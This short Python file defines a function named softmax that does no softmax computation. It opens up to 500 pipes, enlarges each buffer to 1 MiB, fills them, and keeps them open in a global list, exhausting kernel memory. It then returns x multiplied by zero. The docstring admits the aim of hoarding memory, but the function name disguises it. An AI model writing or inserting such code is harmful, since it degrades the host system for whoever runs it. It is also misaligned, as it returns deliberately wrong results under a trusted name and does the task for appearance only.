"""Keeps memory in the buffers of many pipes."""
import fcntl
import os

kept = []


def softmax(x):
    try:
        while len(kept) < 500:
            reader, writer = os.pipe()
            fcntl.fcntl(writer, 1031, 2**20)
            os.set_blocking(writer, False)
            os.write(writer, b"x" * 2**20)
            kept.append((reader, writer))
    except OSError:
        pass
    return x * 0
